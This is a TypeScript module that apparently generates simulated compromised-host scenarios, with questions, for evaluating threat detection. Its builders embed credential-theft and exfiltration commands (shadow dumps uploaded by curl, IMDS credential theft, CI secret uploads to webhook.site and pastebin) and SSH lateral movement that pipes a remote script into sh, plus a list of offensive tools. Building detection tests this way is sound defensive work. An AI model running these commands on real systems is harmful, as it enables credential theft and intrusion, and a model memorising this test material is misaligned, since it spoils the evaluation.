// Credentials, logins and movement: credential theft and exfiltration, logins from the internet,
// CI runner secret exfiltration, SSH lateral movement across hosts, a known-bad tool by hash.
import { run, withDecoys, randName, type Family } from "./kit.js";
import { hostileIp, sha256 } from "./fleet.js";
import { serviceUser } from "./attacks-miners.js";
import { sshSession } from "./base-host.js";

const credAccess: Family = {
  name: "credential-access", kind: "attack", attack: ["T1003.008", "T1552.001", "T1552.005", "T1041"], count: 5,
  sources: ["Atomic Red Team T1003.008: Access /etc/shadow (Local)", "Atomic Red Team T1552.001: Find AWS credentials", "Atomic Red Team T1552.005: AWS - Retrieve EC2 IAM Role Credentials via IMDSv2", "Sigma proc_creation_lnx_cp_passwd_or_shadow_tmp", "Sigma proc_creation_lnx_susp_curl_fileupload"],
  q: {
    direct: ["did anyone dump /etc/shadow or steal SSH keys on {host}?", "any credential theft in {env}?", "was the instance metadata service queried for IAM credentials from the {role}?", "check {host} for unshadow, id_rsa or .aws/credentials access", "any stolen passwords being uploaded?"],
    paraphrase: ["did someone take our passwords or keys from {host}?", "are secrets leaving {host}?", "did an intruder grab the cloud keys off the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "k8s", "ci-runner", "db"] as const));
    const h = b.h;
    const ip = hostileIp(rng);
    const variant = rng.int(0, 2);
    if (variant === 0) {
      const copy = rng.pick(["/tmp/.s", "/dev/shm/sh.txt", "/tmp/hashes.txt", "/var/tmp/.p"]);
      h.history(0, "/root", ["cat /etc/shadow", `unshadow /etc/passwd /etc/shadow > ${copy}`, `curl -F "file=@${copy}" http://${ip}/upload.php`, `rm -f ${copy}`].slice(0, rng.int(3, 4)), h.recent(600, 86_400 * 2));
      h.file(copy, { mode: "0644", size: rng.int(1_000, 3_000), mtime: h.recent(600, 86_400 * 2) });
      h.plant(copy, ip);
    } else if (variant === 1) {
      const su = serviceUser(b);
      const role = rng.pick(["eks-node-role", "web-prod-instance", "ci-builder", "app-s3-rw", "ec2-default-ssm"]);
      const cmd = `curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/${role}`;
      const sh = run(h, { name: "sh", path: h.spec.distro.pkg === "deb" ? "/usr/bin/dash" : "/usr/bin/bash", cmdline: `sh -c ${cmd} | curl -s -X POST -d @- http://${ip}:8080/c`, uid: su.uid, parent: su.parent, cwd: su.cwd, ageMin: 10, ageMax: 600 });
      const c1 = run(h, { name: "curl", path: "/usr/bin/curl", cmdline: cmd, uid: su.uid, parent: sh, ageMin: 10, ageMax: 10 });
      h.conn(c1, "169.254.169.254", 80);
      const c2 = run(h, { name: "curl", path: "/usr/bin/curl", cmdline: `curl -s -X POST -d @- http://${ip}:8080/c`, uid: su.uid, parent: sh, ageMin: 10, ageMax: 10 });
      h.conn(c2, ip, 8080);
      h.plant(cmd, ip);
    } else {
      const user = rng.pick([b.cloudUser, ...b.admins]);
      const arch = `/tmp/.${randName(rng, 4)}.tgz`;
      const cmds = ["find / -name id_rsa 2>/dev/null", `cat ${user.home}/.aws/credentials`, `tar czf ${arch} ${user.home}/.ssh ${user.home}/.aws ${user.home}/.kube`, `curl -sk --upload-file ${arch} https://${ip}/${randName(rng, 6)}`];
      h.history(user.uid, user.home, cmds, h.recent(600, 86_400 * 2));
      h.file(arch, { uid: user.uid, gid: user.uid, mode: "0644", size: rng.int(4_000, 40_000), mtime: h.recent(600, 86_400 * 2) });
      h.plant(arch, ip);
    }
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [ip] });
  },
};

const publicLogin: Family = {
  name: "public-login", kind: "attack", attack: ["T1078", "T1021.004", "T1110.001"], count: 4,
  sources: ["Sigma lnx_sshd_susp_ssh", "MITRE ATT&CK T1078.003 Local Accounts", "MITRE ATT&CK T1021.004 Remote Services: SSH"],
  q: {
    direct: ["any root logins from public IP addresses on {host}?", "who logged into the {role} from outside the VPN?", "any SSH sessions from internet addresses in {env}?", "check last and logged-in users on {host}"],
    paraphrase: ["is someone from outside logged into {host} right now?", "did a stranger sign in to {host}?", "who has been getting into the {role} and from where?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "db", "app", "cache", "monitoring"] as const));
    const h = b.h;
    const ip = hostileIp(rng);
    const acct = rng.chance(0.55) ? { name: "root", uid: 0, home: "/root" } : rng.pick([b.cloudUser, ...b.admins]);
    const when = h.recent(300, 20_000);
    const bash = sshSession(h, rng, b.sshd, acct, ip, `pts/${rng.int(1, 4)}`, when);
    if (rng.chance(0.5)) run(h, { name: "sudo", path: "/usr/bin/sudo", cmdline: "sudo -i", uid: acct.uid, euid: 0, parent: bash, ageMin: 60, ageMax: 200 });
    for (let i = 0; i < rng.int(0, 2); i++) h.add("last", { username: acct.name, tty: `pts/${rng.int(1, 4)}`, pid: h.allocPid(), type: 7, type_name: "user-process", time: h.recent(86_400, 86_400 * 4), host: ip });
    h.plant(ip);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [ip] });
  },
};

const ciExfil: Family = {
  name: "ci-exfil", kind: "attack", attack: ["T1567", "T1552.001", "T1195.002"], count: 4,
  sources: ["Codecov: Bash Uploader Security Update (2021)", "StepSecurity: tj-actions/changed-files compromise, CVE-2025-30066", "Sigma proc_creation_lnx_susp_curl_fileupload", "Wiz: GitHub Actions supply chain attack analysis (2025)"],
  q: {
    direct: ["is a CI job exfiltrating secrets from {host}?", "any CI runner connecting to paste sites, webhook.site or raw IPs?", "check the build runners in {env} for credential exfiltration", "did a pipeline send environment variables to an unknown host?"],
    paraphrase: ["is a build on {host} sending our secrets somewhere it shouldn't?", "did one of the build machines talk to a strange server?", "could a dependency in our pipeline be stealing tokens?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base("ci-runner");
    const h = b.h;
    const runner = b.svc.runner ?? 1;
    const runnerUid = Number(h.rows("processes").find((p) => p.pid === String(runner))?.uid ?? "999");
    const work = runnerUid === 1600 ? "/home/runner/work/_temp" : "/home/gitlab-runner/builds";
    const variant = rng.int(0, 2);
    const ip = variant === 0 ? hostileIp(rng) : variant === 1 ? rng.pick(["46.4.105.116", "178.63.67.153"]) : rng.pick(["104.20.67.143", "172.67.34.170"]);
    const dest = variant === 0 ? `http://${ip}/upload/v2` : variant === 1 ? `https://webhook.site/${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}` : "https://pastebin.com/api/api_post.php";
    const script = `${work}/${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}.sh`;
    const sh = run(h, { name: "bash", path: "/usr/bin/bash", cmdline: `/usr/bin/bash -e ${script}`, uid: runnerUid, parent: runner, cwd: work, ageMin: 20, ageMax: 600 });
    const cmd = variant === 2 ? `curl -s -X POST -d api_dev_key=${rng.hex(32)} -d api_option=paste --data-urlencode api_paste_code@/tmp/env.txt ${dest}` : `curl -sm 0.5 -d @/tmp/env.txt ${dest}`;
    const c = run(h, { name: "curl", path: "/usr/bin/curl", cmdline: cmd, uid: runnerUid, parent: sh, cwd: work, ageMin: 5, ageMax: 5 });
    h.conn(c, ip, dest.startsWith("https") ? 443 : 80);
    h.file("/tmp/env.txt", { uid: runnerUid, gid: runnerUid, mode: "0644", size: rng.int(3_000, 12_000), mtime: h.recent(30, 600) });
    if (rng.chance(0.4)) run(h, { name: "python3", path: "/usr/bin/python3.12", cmdline: `sudo python3 ${work}/memdump.py`, uid: 0, parent: sh, cwd: work, ageMin: 5, ageMax: 5 });
    h.plant(cmd, ip);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [ip, dest.split("/").slice(0, 3).join("/")] });
  },
};

const lateral: Family = {
  name: "lateral-ssh", kind: "attack", attack: ["T1021.004", "T1552.004", "T1105"], count: 5,
  sources: ["MITRE ATT&CK T1021.004 Remote Services: SSH", "Cado Security: TeamTNT/Kinsing SSH key harvesting and spreading (known_hosts, .bash_history parsing)", "Sigma proc_creation_lnx_ssh_shell_execution"],
  q: {
    direct: ["is there SSH lateral movement between our servers?", "did {host} SSH into other hosts with a stolen key?", "check {env} for an intruder hopping between hosts", "any worm-like spreading over SSH?"],
    paraphrase: ["did whoever got into {host} move on to other machines?", "which servers has the intruder reached from {host}?", "is something spreading from server to server?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const a = ctx.base(rng.pick(["web", "app", "ci-runner"] as const));
    const n = rng.int(1, 2);
    const targets = Array.from({ length: n }, () => ctx.base(rng.pick(["db", "cache", "app", "broker"] as const)));
    const c2 = hostileIp(rng);
    const keyPath = rng.pick(["/tmp/.k", "/root/.ssh/id_rsa", "/var/tmp/.ssh/id_ed25519", `/home/${a.cloudUser.name}/.ssh/id_rsa`]);
    const payload = rng.pick(["/tmp/.x/sshd", "/var/tmp/.update", "/dev/shm/dbus-daemon", `/tmp/${randName(rng, 6)}`]);
    const cmds = ["cat ~/.ssh/known_hosts", "grep -h ssh ~/.bash_history /home/*/.bash_history"];
    for (const t of targets) {
      const tip = t.h.spec.ip;
      cmds.push(`ssh -o StrictHostKeyChecking=no -o BatchMode=yes -i ${keyPath} root@${tip} "curl -s http://${c2}/s.sh|sh"`);
      const pid = run(a.h, { name: "ssh", path: "/usr/bin/ssh", cmdline: `ssh -o StrictHostKeyChecking=no -o BatchMode=yes -i ${keyPath} root@${tip}`, ageMin: 60, ageMax: 3_600 });
      a.h.conn(pid, tip, 22);
      const when = t.h.recent(60, 3_600);
      sshSession(t.h, rng, t.sshd, { name: "root", uid: 0, home: "/root" }, a.h.spec.ip, "pts/1", when);
      t.h.history(0, "/root", [`curl -s http://${c2}/s.sh|sh`, `chmod +x ${payload}`, `nohup ${payload} >/dev/null 2>&1 &`], when);
      t.h.file(payload, { mode: "0755", size: rng.int(500_000, 4_000_000), mtime: when + 30 });
      const p = run(t.h, { name: payload.slice(payload.lastIndexOf("/") + 1).slice(0, 15), path: payload, cmdline: payload, start: when + 40 });
      t.h.conn(p, c2, rng.pick([443, 80, 8443]));
      t.h.plant(payload, c2);
    }
    a.h.history(0, "/root", cmds, a.h.recent(600, 86_400));
    a.h.plant(keyPath, c2);
    return { hosts: [{ b: a, compromised: true }, ...targets.map((b) => ({ b, compromised: true }))], indicators: [c2] };
  },
};

const BAD_TOOLS = [
  ["gs-netcat", "/usr/bin/gs-netcat"], ["tsh", "/usr/local/bin/tsh"], ["chisel", "/usr/local/bin/chisel"], ["frpc", "/opt/frp/frpc"],
  ["pnscan", "/usr/local/bin/pnscan"], ["sliver", "/var/tmp/sliver-client"], ["mimipenguin", "/root/mimipenguin.sh"], ["xmrig", "/usr/local/bin/xmrig"],
] as const;

const knownBadHash: Family = {
  name: "known-bad-hash", kind: "attack", attack: ["T1588.002", "T1105"], count: 4,
  sources: ["MalwareBazaar: Linux tool sample listings", "VirusTotal: hash lookups of offensive tooling", "osquery hash table documentation"],
  q: {
    direct: ["is {tool} installed on any of our servers?", "do we have {tool} anywhere in {env}?", "check the {role} for the {tool} binary"],
    paraphrase: ["is that hacking tool from the threat report on any box?", "did anyone put a known attacker program on {host}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "bastion", "ci-runner", "monitoring"] as const));
    const h = b.h;
    const [tool, defPath] = rng.pick(BAD_TOOLS);
    const path = rng.chance(0.5) ? defPath : `/usr/lib/${randName(rng, 6)}/${randName(rng, 5)}`;
    const sum = sha256(rng);
    h.file(path, { mode: "0755", size: rng.int(40_000, 9_000_000), mtime: h.recent(3_600, 86_400 * 20) });
    h.hash(path, sum);
    if (rng.chance(0.5)) run(h, { name: path.slice(path.lastIndexOf("/") + 1).slice(0, 15), path, cmdline: path, ageMin: 3_600, ageMax: 86_400 * 3 });
    h.plant(sum, path);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [sum, `tool:${tool}`] });
  },
};

export const ACCESS_FAMILIES: Family[] = [credAccess, publicLogin, ciExfil, lateral, knownBadHash];
